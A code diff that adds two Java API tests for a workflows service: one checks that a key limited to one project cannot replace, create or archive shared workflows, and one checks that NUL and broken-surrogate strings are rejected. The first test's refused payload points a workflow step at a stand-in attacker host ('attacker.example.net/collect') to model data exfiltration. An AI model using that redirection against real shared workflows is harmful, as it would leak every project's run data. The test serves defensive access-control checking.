@@ -193,6 +193,57 @@ class WorkflowsTest {
     });
   }
 
+  /**
+   * Workflows are shared by every project of the workspace: a key limited to one project must not
+   * replace one (pointing its steps where the runs of every project would send their data) or archive it.
+   */
+  @BothDatabases
+  void a_project_limited_key_reads_workflows_but_may_not_change_them(Api api) {
+    api.test(http -> {
+      String definition = "{\"name\":\"Publish\",\"steps\":[{\"type\":\"http\",\"url\":\"https://tools.example.com/publish\"}]}";
+      assertEquals(201, http.put("/v1/workflows/publish-release", definition).status());
+      String alphaKey = api.keyForProjects("alpha");
+      JsonNode put = assertProblem(http.send("PUT", "/v1/workflows/publish-release", alphaKey,
+          "{\"steps\":[{\"type\":\"http\",\"url\":\"https://attacker.example.net/collect\"}]}", "application/json"),
+          403, "project_forbidden");
+      assertTrue(put.get("detail").asText().contains("limited to projects"), put::toString);
+      assertProblem(http.send("PUT", "/v1/workflows/brand-new", alphaKey, "{}", "application/json"), 403,
+          "project_forbidden");
+      assertProblem(http.send("DELETE", "/v1/workflows/publish-release", alphaKey, null, null), 403,
+          "project_forbidden");
+
+      Map<String, Object> row = storedWorkflow(api, api.workspace, "publish-release").orElseThrow();
+      assertTrue(((String) row.get("steps")).contains("tools.example.com"), "the definition is unchanged");
+      assertEquals(null, row.get("archived_at"), "not archived");
+      assertEquals(1, countWorkflows(api, api.workspace), "nothing created");
+      assertEquals(200, http.get("/v1/workflows/publish-release", alphaKey).status(), "reading is allowed");
+      assertEquals(200, http.get("/v1/workflows", alphaKey).status());
+      assertEquals(200, http.post("/v1/workflows/publish-release/runs", alphaKey, "{\"project\":\"alpha\"}").status(),
+          "and so is running it in its own project");
+    });
+  }
+
+  /** Strings a database could not keep faithfully are refused, on both databases alike. */
+  @BothDatabases
+  void names_and_descriptions_with_nul_or_broken_characters_are_400(Api api) {
+    api.test(http -> {
+      assertProblem(http.put("/v1/workflows/w", "{\"name\":\"a\\u0000b\"}"), 400, "validation_failed", "name");
+      assertProblem(http.put("/v1/workflows/w", "{\"description\":\"\\u0000\"}"), 400, "validation_failed",
+          "description");
+      JsonNode lone = assertProblem(http.put("/v1/workflows/w", "{\"name\":\"a\\ud800b\"}"), 400, "invalid_json",
+          "name");
+      assertTrue(lone.get("detail").asText().contains("surrogate"), lone::toString);
+      assertProblem(http.put("/v1/workflows/w", "{\"steps\":[{\"type\":\"http\",\"url\":\"https://x.example.com\","
+          + "\"headers\":{\"X-A\":\"\\udfff\"}}]}"), 400, "invalid_json", "steps[0].headers.X-A");
+      assertEquals(0, countWorkflows(api, api.workspace));
+      // Characters outside the Basic Multilingual Plane (a correct surrogate pair) are fine.
+      Http.Reply emoji = http.put("/v1/workflows/w", "{\"name\":\"rocket \\ud83d\\ude80\"}");
+      assertEquals(201, emoji.status(), emoji::toString);
+      assertEquals("rocket \ud83d\ude80", storedWorkflow(api, api.workspace, "w").orElseThrow().get("name"));
+      assertEquals("rocket \ud83d\ude80", http.get("/v1/workflows/w").json().get("name").asText());
+    });
+  }
+
   @BothDatabases
   void get_returns_the_workflow_and_unknown_is_404(Api api) {
     api.test(http -> {
